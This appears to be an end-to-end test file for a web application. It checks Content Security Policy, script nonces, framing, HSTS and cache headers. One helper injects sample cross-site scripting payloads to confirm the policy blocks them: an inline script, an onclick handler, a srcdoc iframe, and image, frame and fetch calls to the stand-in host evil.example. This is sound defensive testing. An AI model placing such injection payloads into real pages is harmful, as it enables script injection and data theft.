import { expect, inject, it } from 'vitest';
import { journeys } from './support/journey';
import type { Visitor } from './support/visitor';

journeys('what protects a page', (visit) => {
  it('is said in its headers: scripts by nonce, no frame, no sniffing, nothing of the device', async () => {
    const { webUrl, apiUrl } = inject('stack');
    const nonces = new Set<string>();
    for (const path of ['/login', '/register', '/dashboard', '/there-is-no-such-page', '/login']) {
      const reply = await fetch(`${webUrl}${path}`);
      const policy = reply.headers.get('content-security-policy') ?? '';
      const html = await reply.text();
      const directives = new Map(
        policy.split('; ').map((one) => [one.split(' ')[0] ?? '', one.split(' ').slice(1)] as const),
      );
      expect(policy).not.toMatch(/unsafe-|(?<=\s)\*(?=[\s;]|$)|(?<=\s)https?:(?=[\s;]|$)/);
      expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
      expect(directives.get('base-uri')).toEqual(["'none'"]);
      expect(directives.get('style-src')).toEqual(["'self'"]);
      expect(directives.get('connect-src')).toEqual(["'self'", apiUrl]);
      const nonce = /'nonce-([^']{20,})'/.exec(policy)?.[1] ?? '';
      nonces.add(nonce);
      const scripts = [...html.matchAll(/<script(?=[\s>])[^>]*>/g)].map(([tag]) => tag);
      expect(scripts.length).toBeGreaterThan(3);
      expect(scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
      expect(html).not.toMatch(/<[^>]+\s(style|on[a-z]+)=/);
      expect(Object.fromEntries(reply.headers)).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'DENY',
        'referrer-policy': 'strict-origin-when-cross-origin',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
        'strict-transport-security': expect.stringMatching(/max-age=63072000; includeSubDomains/),
        'permissions-policy': expect.stringMatching(/camera=\(self\).*microphone=\(\)/),
      });
      expect(reply.headers.get('x-powered-by')).toBeNull();
    }
    expect(nonces.size).toBe(5);
  });

  it('leaves the program itself in the caches of the browser, and the worker always fresh', async () => {
    const { webUrl } = inject('stack');
    const html = await (await fetch(`${webUrl}/login`)).text();
    const script = /<script[^>]* src="([^"]+\.js)"/.exec(html)?.[1] ?? '';
    const cached = await fetch(new URL(script, webUrl));
    expect(cached.headers.get('cache-control')).toMatch(/max-age=31536000, immutable/);
    expect((await fetch(`${webUrl}/sw.js`)).headers.get('cache-control')).toBe('no-cache');
  });

  it('stops what somebody may smuggle in, and the journeys would see it', async () => {
    const visitor = await visit();
    visitor.expectComplaints(/Content Security Policy|ERR_BLOCKED_BY_CSP/);
    await visitor.open('/login');
    await visitor.page.getByRole('button', { name: visitor.say('auth.login') }).waitFor();
    expect(visitor.violations()).toEqual([]);
    await smuggle(visitor);
    const stopped = new Set<string>();
    const directives = () => {
      for (const one of visitor.violations()) {
        const [directive = ''] = one.split(' ');
        stopped.add(one.endsWith('on srcdoc') ? `${directive} in a frame` : directive);
      }
      return [...stopped].sort();
    };
    // All of them, so that none comes after the end of the journey.
    await expect
      .poll(directives, { timeout: 5_000 })
      .toEqual([
        'connect-src',
        'frame-src',
        'img-src',
        'script-src-attr',
        'script-src-elem',
        'script-src-elem in a frame',
        'style-src-attr',
      ]);
    expect(await visitor.page.evaluate(() => (window as { isTaken?: boolean }).isTaken)).toBeUndefined();
  });
});

/** Each of these would be somebody else's program, look, picture or frame in our page. */
const smuggle = ({ page }: Visitor): Promise<void> =>
  page.evaluate(() => {
    const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
    const script = document.createElement('script');
    script.textContent = 'window.isTaken = true';
    document.body.append(script);
    add('<p style="position:fixed">x</p><button id="smuggled" onclick="window.isTaken = true">x</button>');
    document.getElementById('smuggled')?.click();
    add('<iframe srcdoc="<script>parent.isTaken = true</script>" title="x"></iframe>');
    add('<img src="https://evil.example/pixel.png" alt="">');
    add('<iframe src="https://evil.example/" title="x"></iframe>');
    void fetch('https://evil.example/collect').catch(() => undefined);
  });
